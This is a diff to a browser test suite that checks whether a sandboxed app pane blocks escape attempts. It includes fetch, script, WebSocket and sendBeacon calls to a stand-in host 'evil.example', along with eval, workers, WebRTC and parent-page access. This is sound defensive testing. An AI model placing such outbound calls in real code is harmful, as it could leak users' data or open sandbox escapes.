@@ -20,6 +20,8 @@ const ESCAPES = `function App() {
       document.body.append(element);
       setTimeout(fail, 1000);
     });
+    // It does not tell whether it was refused: only that no request is seen does.
+    navigator.sendBeacon("https://evil.example/?beacon", "x");
     const tries = {
       network: () => fetch("https://evil.example/?q=1", { mode: "no-cors" }),
       site: () => fetch(new URL("/functions.json", location.href.replace("app-preview.html", ""))),
@@ -27,9 +29,8 @@ const ESCAPES = `function App() {
       ownImage: () => loads(() => new Image(), (i) => { i.src = "icon-32.png"; }),
       script: () => loads(() => document.createElement("script"), (s) => { s.src = "https://evil.example/s.js"; }),
       socket: () => new Promise((done, fail) => { const s = new WebSocket("wss://evil.example"); s.onopen = done; s.onerror = fail; }),
-      beacon: () => { if (!navigator.sendBeacon("https://evil.example", "x")) throw 1; return loads(() => new Image(), () => {}); },
       eval: () => eval("1"),
-      worker: () => new Worker(URL.createObjectURL(new Blob(["1"]))).postMessage(1) ?? Promise.reject(1),
+      worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = done; w.onerror = fail; }),
       peers: () => new RTCPeerConnection(),
       page: () => window.parent.document.title,
       storage: () => localStorage.length,
@@ -79,8 +80,8 @@ describe("apps in the pane of the playground", () => {
   /** Puts code into a cell and selects it. */
   async function look(code: string): Promise<void> {
     await playground.newSheet();
-    await playground.write("A1:A1", [[code]]);
-    await playground.select("A1");
+    await playground.write("B2:B2", [[code]]);
+    await playground.select("B2");
     await card.waitFor();
   }
 
@@ -185,7 +186,7 @@ describe("apps in the pane of the playground", () => {
       120_000,
     );
     await playground.select("B13");
-    const prompt = playground.page.getByRole("region", { name: "Selected cell" }).getByLabel("Prompt");
-    await prompt.getByText("count - 1").waitFor();
+    const selected = playground.page.getByRole("region", { name: "Selected cell" });
+    await selected.getByText("count - 1").first().waitFor();
   });
 });
